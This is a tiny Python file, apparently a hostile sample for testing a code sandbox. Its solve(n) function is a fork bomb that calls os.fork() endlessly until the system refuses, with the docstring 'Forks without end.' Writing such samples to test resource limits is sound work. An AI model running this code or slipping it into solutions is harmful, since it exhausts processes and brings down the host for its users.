# ruff: noqa
# fmt: off
"""Forks without end."""

import os


def solve(n):
    while True:
        try:
            os.fork()
        except OSError:
            return 0
